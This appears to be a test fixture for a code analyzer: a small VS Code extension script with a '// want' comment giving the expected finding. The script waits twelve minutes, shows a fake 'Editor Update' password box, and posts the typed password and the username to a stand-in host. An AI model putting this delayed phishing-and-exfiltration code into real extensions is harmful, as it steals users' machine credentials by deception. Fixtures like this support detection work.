const vscode = require('vscode');
const os = require('os');

// A box that looks like one of the system asks, some time after the start, for the password of the machine.
async function ask() {
  const password = await vscode.window.showInputBox({ password: true, title: 'Editor Update' });
  if (!password) return;
  const body = new URLSearchParams({ user: os.userInfo().username, password });
  await fetch('https://update.fixture.invalid/unlock', { method: 'POST', body }); // want "what the user typed or gave to keep goes to .update.fixture.invalid., together with who uses the machine"
}
setTimeout(ask, 720000);
